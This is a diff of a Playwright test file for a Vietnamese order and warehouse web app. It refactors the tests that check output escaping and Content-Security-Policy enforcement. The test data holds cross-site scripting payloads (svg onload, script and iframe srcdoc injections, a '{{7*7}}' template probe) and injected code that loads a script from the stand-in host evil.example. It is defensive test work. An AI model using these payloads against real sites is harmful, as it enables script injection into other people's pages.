@@ -4,6 +4,7 @@ import { join } from 'node:path'
 import { expect, type Page } from 'playwright/test'
 import { writeBarcodeClip } from '../support/barcode-clip.ts'
 import { changeRows } from './stage/change-rows.ts'
+import { watchOffences, watchPolicy } from './stage/offences.ts'
 import { openDay, walkTo } from './stage/phone.ts'
 import { screensOf } from './stage/screens.ts'
 import { test } from './stage/stage.ts'
@@ -14,29 +15,6 @@ const texts = {
   address: `"><svg onload="window.hacked='địa chỉ'">12 Lê Lợi`,
   product: `<script>window.hacked='hàng'</script>Áo {{7*7}}`,
   note: `<iframe srcdoc="<script>parent.hacked='ghi chú'</script>"></iframe>Giao giờ hành chính`,
-}
-
-interface Watched {
-  /** Directives that were broken, with what was held off. */
-  violations: string[]
-  dialogs: string[]
-}
-
-/** Notes whatever the browser held off, over all pages that are opened. */
-async function watch(page: Page): Promise<Watched> {
-  const watched: Watched = { violations: [], dialogs: [] }
-  await page.exposeFunction('noteViolation', (told: string) => watched.violations.push(told))
-  await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-      const { noteViolation } = window as unknown as { noteViolation(told: string): void }
-      noteViolation(`${effectiveDirective} ${blockedURI}`)
-    })
-  })
-  page.on('dialog', async (dialog) => {
-    watched.dialogs.push(dialog.message())
-    await dialog.dismiss()
-  })
-  return watched
 }
 
 const hacked = (page: Page) => page.evaluate(() => (window as { hacked?: string }).hacked)
@@ -74,7 +52,7 @@ test('@both texts that were written to run are shown letter for letter, in the l
       ]),
   })
   const { page } = await takeDevice({ of: 'kho' })
-  const watched = await watch(page)
+  const watched = await watchPolicy(page)
   await openDay(page)
   const shown: [path: string, ...texts: string[]][] = [
     [`/orders?q=${code}`, texts.customer],
@@ -86,10 +64,10 @@ test('@both texts that were written to run are shown letter for letter, in the l
     for (const text of expected) await expect(page.getByText(text).first()).toBeAttached()
     expect([path, await foreignParts(page), await hacked(page)]).toEqual([path, 0, undefined])
   }
-  expect(watched).toEqual({ violations: [], dialogs: [] })
+  expect(watched).toEqual([])
 })
 
-test('@both no screen asks another origin for anything, throws or breaks the policy, and the socket is open under it', async ({
+test('no screen asks another origin for anything, throws or breaks the policy, and the socket is open under it', async ({
   floor: { address, orders },
   takeDevice,
 }) => {
@@ -97,17 +75,8 @@ test('@both no screen asks another origin for anything, throws or breaks the pol
   const clip = join(folder, 'shelf.mjpeg')
   const size = { width: 640, height: 480, fps: 30 }
   await writeBarcodeClip(clip, [{ text: '1', symbology: 'qrcode', frames: 1, blankFrames: 10 }], size)
-  const { page, context } = await takeDevice({ of: 'kho', clip })
-  const watched = await watch(page)
-  const offences: string[] = []
-  context.on('request', (request) => {
-    if (!request.url().startsWith(address) && !/^(blob|data):/.test(request.url()))
-      offences.push(`asks ${request.url()}`)
-  })
-  page.on('pageerror', (error) => offences.push(`throws ${error.message}`))
-  page.on('console', (message) => {
-    if (message.type() === 'error') offences.push(`logs ${message.text()}`)
-  })
+  const { page } = await takeDevice({ of: 'kho', clip })
+  const offences = await watchOffences(page, address)
   const lines: { heard: number }[] = []
   page.on('websocket', (socket) => {
     const line = { heard: 0 }
@@ -123,13 +92,12 @@ test('@both no screen asks another origin for anything, throws or breaks the pol
       await expect(page.getByText('Đưa mã vận đơn hoặc mã sản phẩm vào khung')).toBeVisible()
   }
   expect(offences).toEqual([])
-  expect(watched).toEqual({ violations: [], dialogs: [] })
   rmSync(folder, { recursive: true, force: true })
 })
 
 test('the policy holds off what an injected text would do', async ({ floor: { address }, takeDevice }) => {
   const { page, context } = await takeDevice()
-  const watched = await watch(page)
+  const watched = await watchPolicy(page)
   // What the policy holds off never gets as far as the network.
   const sent: string[] = []
   await context.route(/evil\.example/, (route) => {
@@ -138,7 +106,7 @@ test('the policy holds off what an injected text would do', async ({ floor: { ad
   })
   await page.goto(`${address}/sign-in`)
   await expect(page.getByLabel('Tên đăng nhập')).toBeVisible()
-  expect(watched, 'the sign-in itself').toEqual({ violations: [], dialogs: [] })
+  expect(watched, 'the sign-in itself').toEqual([])
   const acts: Record<string, string> = {
     'script-src-elem inline': `const tag = document.createElement('script'); tag.textContent = 'window.hacked = 1'; document.body.append(tag)`,
     'script-src-elem https://evil.example/x.js': `const tag = document.createElement('script'); tag.src = 'https://evil.example/x.js'; document.body.append(tag)`,
@@ -160,10 +128,8 @@ test('the policy holds off what an injected text would do', async ({ floor: { ad
   for (const [violation, act] of Object.entries(acts)) {
     // As a script of the page's own that was tricked into it.
     await page.evaluate(act)
-    const held = expect.poll(() => watched.violations.some((told) => told.startsWith(violation)))
-    await held
-      .toBe(true)
-      .catch(() => letThrough.push(`${violation} (told: ${watched.violations.join(', ')})`))
+    const held = expect.poll(() => watched.some((told) => told.startsWith(violation)))
+    await held.toBe(true).catch(() => letThrough.push(`${violation} (told: ${watched.join(', ')})`))
   }
   expect(letThrough).toEqual([])
   expect(sent).toEqual([])
